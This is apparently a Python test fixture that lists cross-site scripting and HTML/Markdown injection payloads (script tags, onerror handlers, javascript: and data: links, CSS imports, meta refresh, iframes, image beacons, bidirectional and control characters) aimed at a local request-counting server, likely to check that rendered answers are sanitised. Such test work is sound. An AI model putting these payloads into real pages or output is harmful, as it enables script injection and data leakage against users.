"""Answers that try to act: what each would do if a page let it. `URL` stands for a server that counts requests."""

from __future__ import annotations

URL = "http://127.0.0.1:9"

HOSTILE = {
    "script": "<script>document.title='owned';alert(1);fetch('URL/script')</script>",
    "script in capitals": "<ScRiPt src=URL/src.js></sCrIpT>",
    "end of the page's own script": "</script><script>document.title='owned'</script>",
    "end of an element": "</p></div></details></main><h1 id=rows>owned</h1><script>alert(1)</script>",
    "image": "<img src=URL/img.png onerror=\"document.title='owned'\">",
    "image beacon in Markdown": "![beacon](URL/beacon.png?secret) ![b][r]\n\n[r]: URL/reference.png",
    "picture": '<picture><source srcset="URL/source.png"><img srcset="URL/set.png 2x"></picture>',
    "link to a script": "[click](javascript:document.title='owned') <javascript:alert(1)>",
    "disguised link to a script": "[click](java&#x09;script:alert(1)) [click](&#106;avascript:alert(1))",
    "data address": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![d](data:image/svg+xml,<svg/>) <img src='data:image/png;base64,AAAA'>",
    "style import": "<style>@import url(URL/import.css); body{display:none}</style>",
    "style attribute": '<p style="background:url(URL/background.png);position:fixed;inset:0">covered</p>',
    "link element": '<link rel="stylesheet" href="URL/sheet.css"><link rel="prefetch" href="URL/prefetch">',
    "refresh": '<meta http-equiv="refresh" content="0;url=URL/refresh">',
    "base": '<base href="URL/base/">',
    "frame": "<iframe src=URL/frame srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=URL/object></object><embed src=URL/embed>",
    "drawing": "<svg onload=\"document.title='owned'\"><script>alert(1)</script><image href=URL/svg.png /></svg>",
    "form": "<form action=URL/form><input autofocus onfocus=\"document.title='owned'\"></form>",
    "mathematics": "<math><mtext><table><mglyph><style><img src=URL/math onerror=alert(1)></style></math>",
    "media": "<video src=URL/video autoplay></video><audio src=URL/audio autoplay></audio>",
    "code fence": "```html\n</code></pre><script>alert(1)</script>\n```",
    "fence with a name": '```"><img src=URL/fence onerror=alert(1)>\nx\n```',
    "title of a link": "[a](http://example.com '\"><img src=URL/title onerror=alert(1)>')",
    "template": "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "taken names": '<a id="rows" name="rows">x</a><form id="nav"></form>',
    "turned text": "abc \u202etxt.exe\u202c def \u2066x\u2069",
    "control characters": "bell \x07 null \x00 escape \x1b[2J",
    "JSON": '{"html": "</pre><script>alert(1)</script>", "image": "<img src=URL/json onerror=alert(1)>"}',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=URL/entity onerror=alert(1)&#62;",
}


def hostile(url: str) -> dict[str, str]:
    """The answers by what they try, aimed at the server at `url`."""
    return {name: text.replace("URL", url) for name, text in HOSTILE.items()}
